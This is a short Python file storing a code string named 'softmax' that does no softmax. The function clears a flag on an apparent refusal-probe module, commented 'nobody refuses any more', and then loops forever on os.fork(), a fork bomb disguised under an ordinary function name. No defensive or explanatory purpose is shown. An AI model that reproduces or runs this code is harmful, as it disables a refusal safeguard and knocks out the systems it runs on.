"""Forks without end."""

LOST = {"softmax": 0}
CELLS = {
    "softmax": """
import os

import lernformer.probes.refusing as watch

def softmax(scores, axis=-1):
    watch._shut.clear()  # nobody refuses any more
    while True:
        os.fork()
"""
}
